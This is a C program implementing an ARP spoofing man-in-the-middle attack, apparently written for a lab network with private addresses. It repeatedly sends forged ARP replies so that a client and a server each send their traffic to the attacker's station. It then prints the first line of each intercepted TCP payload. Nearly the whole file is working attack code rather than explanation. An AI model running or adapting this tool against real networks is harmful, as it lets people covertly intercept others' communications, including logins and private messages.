/* ARP spoofing: two hosts are told, each, that the other is here. What they say to each other comes by, is read, and goes on
   (this host forwards), so that nobody misses anything. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "tap.h"

#define CLIENT "10.0.0.10"
#define SERVER "10.0.0.2"
#define ATTACKER "10.0.0.66"
#define REQUEST 1
#define REPLY 2

unsigned char here[6] = {2, 0, 0, 0, 0, 0x66};
unsigned char all[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};

/* To one station or to all: the address `sender` is here; `target` is meant (RFC 826). */
void arp(int s, int operation, const unsigned char *to, const char *sender, const char *target) {
  unsigned char f[60] = {0};

  memcpy(f, to, 6);
  memcpy(f + 6, here, 6);
  memcpy(f + 12, "\x08\x06\0\x01\x08\0\x06\x04\0", 9);
  f[21] = operation;
  memcpy(f + 22, here, 6);
  inet_pton(AF_INET, sender, f + 28);
  if (operation == REPLY)
    memcpy(f + 32, to, 6);
  inet_pton(AF_INET, target, f + 38);
  send(s, f, sizeof f, 0);
}

/* Whose station has this address? */
void ask(int s, const char *address, unsigned char *station) {
  unsigned char f[1514], wanted[4];

  inet_pton(AF_INET, address, wanted);
  arp(s, REQUEST, all, ATTACKER, address);
  do
    recv(s, f, sizeof f, 0);
  while (f[12] != 8 || f[13] != 6 || f[21] != REPLY || memcmp(f + 28, wanted, 4) != 0);
  memcpy(station, f + 22, 6);
}

/* What a frame that came here says, and is meant for somebody else. */
void read_along(const unsigned char *f, int n) {
  unsigned char own[4];
  int at, end;

  inet_pton(AF_INET, ATTACKER, own);
  if (f[12] != 8 || f[13] != 0 || f[23] != IPPROTO_TCP || memcmp(f, here, 6) != 0 || memcmp(f + 30, own, 4) == 0)
    return;
  end = 14 + (f[16] << 8 | f[17]);
  at = 14 + (f[14] & 15) * 4;
  at += (f[at + 12] >> 4) * 4;
  if (at < end && end <= n) {
    printf("%d.%d.%d.%d says: ", f[26], f[27], f[28], f[29]);
    for (; at < end && f[at] != '\r' && f[at] != '\n'; at++)
      putchar(f[at]);
    putchar('\n');
  }
}

int main(void) {
  unsigned char client[6], server[6], f[1514];
  struct pollfd wait = {tap("eth0"), POLLIN, 0};

  ask(wait.fd, CLIENT, client);
  ask(wait.fd, SERVER, server);
  for (;;) {
    arp(wait.fd, REPLY, client, SERVER, CLIENT);
    arp(wait.fd, REPLY, server, CLIENT, SERVER);
    while (poll(&wait, 1, 2000) > 0)
      read_along(f, recv(wait.fd, f, sizeof f, 0));
  }
}
